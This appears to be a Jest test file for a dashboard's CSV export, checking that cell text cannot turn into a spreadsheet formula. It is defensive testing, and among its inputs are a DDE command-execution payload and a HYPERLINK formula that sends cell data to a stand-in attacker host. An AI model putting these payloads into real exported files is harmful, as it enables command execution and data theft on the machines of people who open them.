import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { csvOf } from '../../dashboard/src/parts/csv-text.js';

const cellOf = (value: string | number | boolean | null | undefined): string =>
  csvOf([{ name: 'name', value: (text: typeof value) => text }], [value])
    .slice('name\r\n'.length)
    .replace(/\r\n$/, '');

/** Removes the quotes of a cell, as a CSV reader does. */
const read = (cell: string): string => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
const BEGINS_FORMULA = /^[\s"]*[=+\-@＝＋－＠]/;

describe('text in exported tables', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    "=cmd|'/c calc'!A0",
    ' =1+1',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '"=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠A1',
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
  ])('%j does not become a formula', (text) => {
    const cell = read(cellOf(text));
    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
    expect(BEGINS_FORMULA.test(cell)).toBe(false);
  });

  test('text does not become a formula if a reader splits cells at semicolons, tabs or line ends', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: fc.constantFrom('=', '-', ';', '\t', '\n', '\r', '"', ',', ' ', 'a', '＝') }),
        (text) => {
          for (const part of read(cellOf(text)).split(/[;\t\r\n]/)) expect(BEGINS_FORMULA.test(part)).toBe(false);
        },
      ),
    );
  });

  test('other text is unchanged, and quoted if necessary', () => {
    for (const text of ['billing', 'a-b', 'gpt-4o', 'x=1', 'Ünïcödé', '']) expect(cellOf(text)).toBe(text);
    expect(cellOf('a,b')).toBe('"a,b"');
    expect(cellOf('a"b')).toBe('"a""b"');
    expect(cellOf('a\r\nb')).toBe('"a\r\nb"');
  });
});

test('numbers are unchanged, even negative ones, and missing values are empty cells', () => {
  expect([cellOf(-5), cellOf(0), cellOf(false), cellOf(null), cellOf(undefined)]).toEqual(['-5', '0', 'false', '', '']);
});
